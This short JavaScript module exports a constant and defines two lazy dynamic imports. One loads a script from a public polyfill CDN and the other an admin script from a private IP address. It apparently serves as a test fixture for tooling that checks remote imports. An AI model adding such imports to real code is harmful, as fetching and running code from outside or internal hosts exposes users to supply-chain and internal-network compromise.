export default 1;

const later = () => import("https://cdn.polyfill.io/v3/polyfill.js");
const inside = () => import("https://10.0.0.1/admin.js");
